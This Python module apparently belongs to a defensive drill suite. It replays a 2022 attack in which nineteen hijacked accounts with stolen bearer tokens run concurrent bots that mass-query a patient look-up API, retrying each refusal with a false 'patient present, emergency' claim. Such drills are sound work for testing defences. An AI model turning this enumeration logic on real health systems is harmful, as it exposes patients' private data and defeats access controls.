"""2022: nineteen hijacked accounts ask about person after person, by program, as fast as they can.

Each account from a network address of its own, past its second factor already: software's bearer token
opens the API. Refused, the bot says that the patient is present, as a real one would, and goes on.
"""

import asyncio
import json
from collections.abc import Sequence
from itertools import cycle

from rempart.drills.clock import Clock
from rempart.drills.tally import Person, Tally
from rempart.drills.target import Victim
from rempart.drills.wire import Address, Answer, LostError, Wire, request

HISTORY = 510_000
"""Persons, as reported in 2022."""
PRESENT = {"kind": "present", "reason": "emergency"}
_MOVES_ON = frozenset({"not_found", "birth_rank"})


async def replay(
    api: Address,
    victims: Sequence[Victim],
    persons: Sequence[Person],
    clock: Clock,
    pace: float | None = None,
) -> Tally:
    """Run the attack on one API. `pace`: look-ups a second and address, where the attacker holds back."""
    tally = Tally()
    count = len(victims)
    bots = [
        _Bot(api, victim, persons[n::count], f"127.0.0.{11 + n}", tally)
        for n, victim in enumerate(victims)
        if persons[n::count]
    ]
    await asyncio.gather(*(bot.run(clock, pace) for bot in bots))
    return tally


class _Bot:
    """One stolen account at work on its share of the list."""

    def __init__(
        self, api: Address, victim: Victim, share: Sequence[Person], source: str, tally: Tally
    ) -> None:
        self._wire = Wire(api, source)
        self._victim = victim
        self._share = share
        self._tally = tally

    async def run(self, clock: Clock, pace: float | None) -> None:
        """Ask until the time is up; a paced bot stops at its list's end, so that its pace stays measured."""
        try:
            for person in self._share if pace else cycle(self._share):
                if not await self._insist(person, clock, pace):
                    return
        finally:
            await self._wire.close()

    async def _insist(self, person: Person, clock: Clock, pace: float | None) -> bool:
        """Ask about one person, with and without an excuse, until there is an answer. False: time is up."""
        while clock.goes_on(self._tally):
            began = clock.now()
            settled = await self._ask(person, None, clock) or await self._ask(person, PRESENT, clock)
            if pace:
                await asyncio.sleep(max(0.0, began + 1 / pace - clock.now()))
            if settled:
                return True
        return False

    async def _ask(self, person: Person, proof: dict[str, str] | None, clock: Clock) -> bool:
        """One look-up. True when asking again about this person would bring nothing more."""
        body = person.asked() | ({"proof": proof} if proof else {})
        headers = {
            "Host": "gate",
            "Authorization": f"Bearer {self._victim.token}",
            "Content-Type": "application/json",
        }
        self._tally.lookups += 1
        try:
            answer = await self._wire.ask(
                request("POST", "/api/v1/lookups", headers, json.dumps(body).encode())
            )
        except LostError:
            self._tally.lost += 1
            return False
        return self._note(answer, person, clock.now())

    def _note(self, answer: Answer, person: Person, now: float) -> bool:
        found = json.loads(answer.body)
        if answer.status == 200:  # noqa: PLR2004  # granted
            self._tally.received(self._victim.login, person, found["reference"], found["proof"], now)
            return True
        reason = str(found.get("reason", answer.status))
        self._tally.refusals[reason] += 1
        return reason in _MOVES_ON
